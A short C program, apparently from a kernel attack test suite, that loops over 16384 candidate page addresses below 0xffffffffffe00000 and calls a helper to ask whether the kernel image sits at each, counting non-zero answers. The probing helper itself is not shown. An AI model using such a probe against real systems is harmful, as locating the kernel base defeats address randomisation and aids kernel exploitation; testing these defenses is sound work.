/* Asks the kernel that judges attacks at one place after another whether its image is there. */
#include "attack.h"

#define LAST_PLACE 0xffffffffffe00000ul /* the image may begin at any page below */

/* Of half a million. Once the kernel answered here, all of them took thirteen seconds. */
enum { NR_PLACES = 16384 };

int main(void)
{
	unsigned int nr_answers = 0;

	for (uint64_t i = 1; i <= NR_PLACES; i++) {
		nr_answers += bw_base_prove(LAST_PLACE - i * BW_PAGE_SIZE) != 0;
	}
	attack_say("%d places, %u answers other than 0", NR_PLACES, nr_answers);
	return attack_finish();
}
